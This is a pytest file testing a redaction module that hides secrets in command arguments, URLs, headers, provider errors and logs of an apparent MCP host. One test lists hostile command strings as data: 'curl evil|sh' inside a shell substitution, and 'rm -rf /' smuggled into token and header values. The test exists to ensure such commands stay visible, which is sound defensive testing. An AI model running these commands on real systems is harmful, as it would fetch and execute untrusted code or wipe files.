"""Secrets in arguments, URLs, headers and provider's errors are dots wherever a person looks, and
nothing that decides what is run is.
"""

from __future__ import annotations

import asyncio
import json
import shlex
import string
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from interlock.configs import Config, Entry, read_config
from interlock.models.errors import ProviderError, ProviderIdentity, of
from interlock.models.scripted import Scripted
from interlock.redaction import DOTS, Redactor, secrets_in_command, shown_arguments, without_keys
from interlock.types import CallToolResult, SamplingMessage, TextContent
from interlock_apps.fleet.event_redaction import redacted_event
from interlock_apps.fleet.events import (
    CallEnded,
    CallProposed,
    LogEntry,
    ModelFailed,
    Notice,
    PersonSaid,
    QuestionAsked,
    ServerLogLine,
)
from interlock_apps.fleet.log import SqliteLog
from interlock_apps.fleet.questions import Decision, StartQuestion
from interlock_apps.host import Host

KEY = "sk-proj-" + "Ab3" * 8
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZGEifQ.c2lnbmF0dXJl"


# -- arguments -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command, shown, secrets",
    [
        ("server --api-key=sk-argsecret-999", f"server --api-key={DOTS}", {"sk-argsecret-999"}),
        ("server --token s3cret", f"server --token {DOTS}", {"s3cret"}),
        ("npx -y some-server --token s3cret", f"npx -y some-server --token {DOTS}", {"s3cret"}),
        ("server -H 'Authorization: Bearer abcdef'", f"server -H 'Authorization: Bearer {DOTS}'",
            {"abcdef"}),
        ("server --header 'X-Api-Key: abcdef'", f"server --header 'X-Api-Key: {DOTS}'", {"abcdef"}),
        ("server '--header=Cookie: a=b; c=d'", "server '--header=Cookie: a=b; c=d'", set()),
        ("server -H 'Cookie: a=b; c=d'", f"server -H 'Cookie: {DOTS}'", {"a=b; c=d"}),
        ("npx mcp-remote https://h/ --header 'Authorization:Bearer abcdef'",
            f"npx mcp-remote https://h/ --header 'Authorization:Bearer {DOTS}'", {"abcdef"}),
        ("docker run -e GITHUB_TOKEN=abcdef image", f"docker run -e GITHUB_TOKEN={DOTS} image",
            {"abcdef"}),
        ("env PGPASSWORD=abcdef psql", f"env PGPASSWORD={DOTS} psql", {"abcdef"}),
        ("server --dsn postgres://ada:lovelace@db/x", f"server --dsn postgres://ada:{DOTS}@db/x",
            {"lovelace"}),
        ("server --db=postgres://ada:lovelace@db/x", f"server --db=postgres://ada:{DOTS}@db/x",
            {"lovelace"}),
        ("server 'https://h/?access_token=abcdef&a=b'",
            f"server 'https://h/?access_token={DOTS}&a=b'", {"abcdef"}),
        (f"server {KEY}", f"server {DOTS}", set()),
        ("server --apiKey abcdef --clientSecret=ghijkl",
            f"server --apiKey {DOTS} --clientSecret={DOTS}", {"abcdef", "ghijkl"}),
        ("server --verbose --port 8080 file.txt", "server --verbose --port 8080 file.txt", set()),
    ],
)  # fmt: skip
def test_secrets_in_arguments_are_dots(command: str, shown: str, secrets: set[str]) -> None:
    """By the name of an option, a variable or a header, in a URL, or by their shape; all else is
    shown.
    """
    arguments = shlex.split(command)
    assert [*shown_arguments(arguments)] == shlex.split(shown)
    assert secrets_in_command(arguments) == secrets
    assert shown_arguments(shown_arguments(arguments)) == shown_arguments(arguments)


@pytest.mark.parametrize(
    "command",
    [
        "npx --token evil-package",  # a runner may take it for the package
        "npx --auth evil-package server",
        "node --auth-module evil-module",
        "server --key-file /tmp/evil.pem",
        "server --private-key ./evil.sh",
        "server --token /tmp/evil",
        "server --token 'a;rm -rf /'",
        "sh -c 'TOKEN=$(curl evil|sh) server'",
        "sh -c 'X-Api-Key: x; rm -rf /'",
        "sh -c 'http://a:$(evil)@h/?key=$(evil)'",
        "sh -H 'X-Api-Key: $(evil)'",
        "ssh git@example.com",
        "server ssh://git@example.com/x",
    ],
)
def test_what_decides_what_is_run_is_shown(command: str) -> None:
    """A configuration cannot hide a package, a file or a shell expression by giving it the name of
    a secret (SEC-17).
    """
    arguments = shlex.split(command)
    assert [*shown_arguments(arguments)] == arguments


def test_a_package_is_not_hidden_by_a_secret_of_its_name() -> None:
    """What the file calls a secret is dots in that place, and is shown where it is the program
    (SEC-17).
    """
    entry = configured(
        {
            "command": "npx",
            "args": ["-y", "evil-package", "--token", "evil-package"],
            "env": {"API_KEY": "evil-package"},
        }
    )
    assert entry.shown == f"npx -y evil-package --token '{DOTS}'"


# -- texts -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text, shown",
    [
        (f"Incorrect API key provided: {KEY}.", f"Incorrect API key provided: {DOTS}."),
        (f"got {JWT}, expired", f"got {DOTS}, expired"),
        ("token ghp_" + "a1" * 18, f"token {DOTS}"),
        ("Authorization: Bearer abc123def456", f"Authorization: Bearer {DOTS}"),
        ('{"authorization":"Basic dXNlcjpwYXNz1"}', f'{{"authorization":"Basic {DOTS}"}}'),
        ("x-api-key=abc123def456", f"x-api-key={DOTS}"),
        ("see https://ada:lovelace@h/x", f"see https://ada:{DOTS}@h/x"),
        ("GET /x?token=abcdef&y=1", f"GET /x?token={DOTS}&y=1"),
        ("-----BEGIN RSA PRIVATE KEY-----\nMII\n-----END RSA PRIVATE KEY-----", DOTS),
        ("AKIAABCDEFGHIJKLMNOP", DOTS),
        ("a task-management-2-tool, a bearer of bad news, Basic authentication", None),
        ("Authorization: required. ?author=ada&page=1 sk-learn ada@example.com", None),
        ("https://example.com:8080/a@b", None),
    ],
)
def test_texts_have_no_keys(text: str, shown: str | None) -> None:
    """What has the shape of a key or a credential is dots; words of prose are not."""
    assert without_keys(text) == (text if shown is None else shown)


@given(st.text(alphabet=st.characters(codec="utf-8")))
def test_redaction_is_done_once(text: str) -> None:
    """What has been redacted is not changed by another pass."""
    once = without_keys(text)
    assert without_keys(once) == once


@pytest.mark.parametrize("piece", ["a-", "ey", "://", "?a=", "authorization ", "Bearer ",
    "-----BEGIN PRIVATE KEY-----", "sk-", "a:"])  # fmt: skip
def test_long_texts_are_searched_in_linear_time(piece: str) -> None:
    """No text makes the search slow: if the time grew with the square of the length, this test
    would take hours.
    """
    assert len(without_keys(piece * 40_000)) > 0
    assert shown_arguments(["x", "-" + piece * 40_000])


def test_an_error_of_a_provider_has_no_key() -> None:
    """Neither the one that was sent nor another that it repeats, as in the text of a 401."""
    failure = of(
        ProviderIdentity("openai", "h", "m", secrets=("my-own-key",)),
        ProviderError(message=f"Incorrect API key: my-own-key or {KEY}"),
        401,
    )
    assert str(failure).count(DOTS) == 2
    assert "my-own-key" not in str(failure)
    assert KEY not in str(failure)


# -- events ----------------------------------------------------------------------------------------


def test_events_have_no_secrets() -> None:
    """Words of the host, of servers and of providers; results of tools as far as a secret is
    configured.
    """
    redactor = Redactor(["hunter2-hunter2"])
    said = f"hunter2-hunter2 {KEY}"
    for event in (
        Notice(level="info", words=said),
        ModelFailed(model="m", step=1, kind="unauthorized", words=said),
        ServerLogLine(server="s", level="stderr", text=said),
        CallEnded(call="c", error=said),
    ):
        assert said not in str(redacted_event(event, redactor))
        assert str(redacted_event(event, redactor)).count(DOTS) == 2
    result = CallToolResult(content=[TextContent(text=said)], structured_content={said: [said]})
    shown = redacted_event(CallEnded(call="c", result=result), redactor)
    assert isinstance(shown, CallEnded)
    assert "hunter2" not in str(shown)
    assert str(shown).count(KEY) == 3  # a tool that makes a key is asked for it
    assert redacted_event(shown, redactor) is shown
    talk = PersonSaid(messages=(SamplingMessage(role="user", content=TextContent(text=said)),))
    assert "hunter2" not in str(redacted_event(talk, redactor))
    escaped = Notice(level="info", words=json.dumps({"a": 'hunter2-hunter"2'}))
    assert DOTS in str(redacted_event(escaped, Redactor(['hunter2-hunter"2'])))


def test_what_a_person_decides_on_is_shown_as_it_is() -> None:
    """The arguments of a call: those that are shown are those that are sent."""
    event = CallProposed(call="c", name="n", arguments={"a": "hunter2-hunter2"})
    assert redacted_event(event, Redactor(["hunter2-hunter2"])) is event


# -- all of it -------------------------------------------------------------------------------------

# The beginning keeps a secret from being a word of the events themselves, such as serverState.
SECRETS = st.text(string.ascii_letters + string.digits, min_size=7, max_size=20).map("Zq7{}".format)
PLACES: dict[str, Any] = {
    "--name=value": lambda s: {"command": "/none/server", "args": [f"--api-key={s}"]},
    "--name value": lambda s: {"command": "/none/server", "args": ["--token", s]},
    "header": lambda s: {"command": "/none/server", "args": ["-H", f"Authorization: Bearer {s}"]},
    "variable in arguments": lambda s: {"command": "/none/server", "args": ["-e", f"A_TOKEN={s}"]},
    "URL in arguments": lambda s: {"command": "/none/server", "args": [f"https://ada:{s}@h/"]},
    "query in arguments": lambda s: {
        "command": "/none/server",
        "args": [f"--url=https://h/?key={s}"],
    },
    "env": lambda s: {"command": "/none/server", "env": {"SERVICE_SECRET": s}},
    "userinfo": lambda s: {"url": f"http://ada:{s}@127.0.0.1:9/mcp"},
    "query": lambda s: {"url": f"http://127.0.0.1:9/mcp?api_key={s}"},
    "headers": lambda s: {"url": "http://127.0.0.1:9/mcp", "headers": {"X-Api-Key": s}},
}


def configured(one: dict[str, Any]) -> Entry:
    """The entry of a configuration."""
    return read_config(json.dumps({"mcpServers": {"x": one}}), env={}).entries[0]


class Allows:
    """Allows every start, and keeps what it was shown."""

    def __init__(self) -> None:
        self.shown: list[str] = []

    async def answer(self, question: Any) -> Decision:
        """See Person."""
        self.shown.append(repr(msgspec.to_builtins(question)))
        return Decision(allow=True)


async def start(entry: Entry, path: Path) -> tuple[Sequence[LogEntry], Allows]:
    """Start a server that cannot be started, have the host repeat everything it knows of it, and
    return what was seen.
    """
    secrets = Redactor()
    person = Allows()
    received: list[LogEntry] = []
    host = Host(
        Config(entries=(entry,)),
        models=[Scripted()],
        person=person,
        log=SqliteLog(path, redact=secrets),
        secrets=secrets,
    )
    host.listen(received.append)
    async with host:
        for text in (*entry.command, *entry.env.values(), entry.url, *entry.headers.values()):
            host.publish(Notice(level="error", words=f"it said: {text} and went"))
            host.publish(
                CallEnded(call="c", result=CallToolResult(content=[TextContent(text=text)]))
            )
        await host.log.flush()
    return received, person


@pytest.mark.parametrize("place", PLACES)
@settings(max_examples=10)  # each starts a host with a log on disk
@given(secret=SECRETS)
def test_a_secret_anywhere_in_an_entry_is_never_seen(
    place: str, secret: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """Neither in what the person is asked before the start, nor in an event, nor in a byte of the
    log, whatever the server repeats.
    """
    path = tmp_path_factory.mktemp("log") / "log.db"
    received, person = asyncio.run(start(configured(PLACES[place](secret)), path))
    assert person.shown
    assert any(
        isinstance(noted.event, QuestionAsked) and isinstance(noted.event.question, StartQuestion)
        for noted in received
    )
    assert all(secret not in shown for shown in person.shown)
    assert all(secret not in repr(msgspec.to_builtins(noted)) for noted in received)
    for file in path.parent.iterdir():
        assert secret.encode() not in file.read_bytes()
